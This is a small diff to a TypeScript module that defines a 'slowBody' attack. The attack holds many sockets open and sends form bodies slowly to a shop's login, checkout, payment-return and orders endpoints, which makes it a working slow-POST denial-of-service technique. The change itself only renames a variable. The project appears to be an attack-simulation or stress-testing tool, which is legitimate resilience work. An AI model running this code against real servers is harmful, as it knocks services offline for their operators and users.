@@ -22,7 +22,7 @@ export const slowBody: Attack = {
   run: (field) => {
     const { url, merchantKey, orders } = field.target
     const form = { Origin: url, 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': '5000' }
-    const doors = [
+    const heads = [
       (n: number) => head(field, n, 'POST', '/login', form),
       (n: number) => head(field, n, 'POST', `/checkout/${orders[n % orders.length]}`, form),
       (n: number) => head(field, n, 'POST', '/api/paynet/return/AAAAAAAAAAAAAAAAAAAAAA', form),
@@ -30,7 +30,7 @@ export const slowBody: Attack = {
       (n: number) => head(field, n, 'POST', '/api/orders', { Authorization: `Bearer ${merchantKey}`, 'Content-Length': '5000' }),
     ]
     return crowd(field, { atOnce: SOCKETS, most: 3_000, pauseMs: 100 }, (n) =>
-      trickle(field, n, `${doors[n % doors.length]?.(n)}\r\n`, 'session_id='),
+      trickle(field, n, `${heads[n % heads.length]?.(n)}\r\n`, 'session_id='),
     )
   },
 }
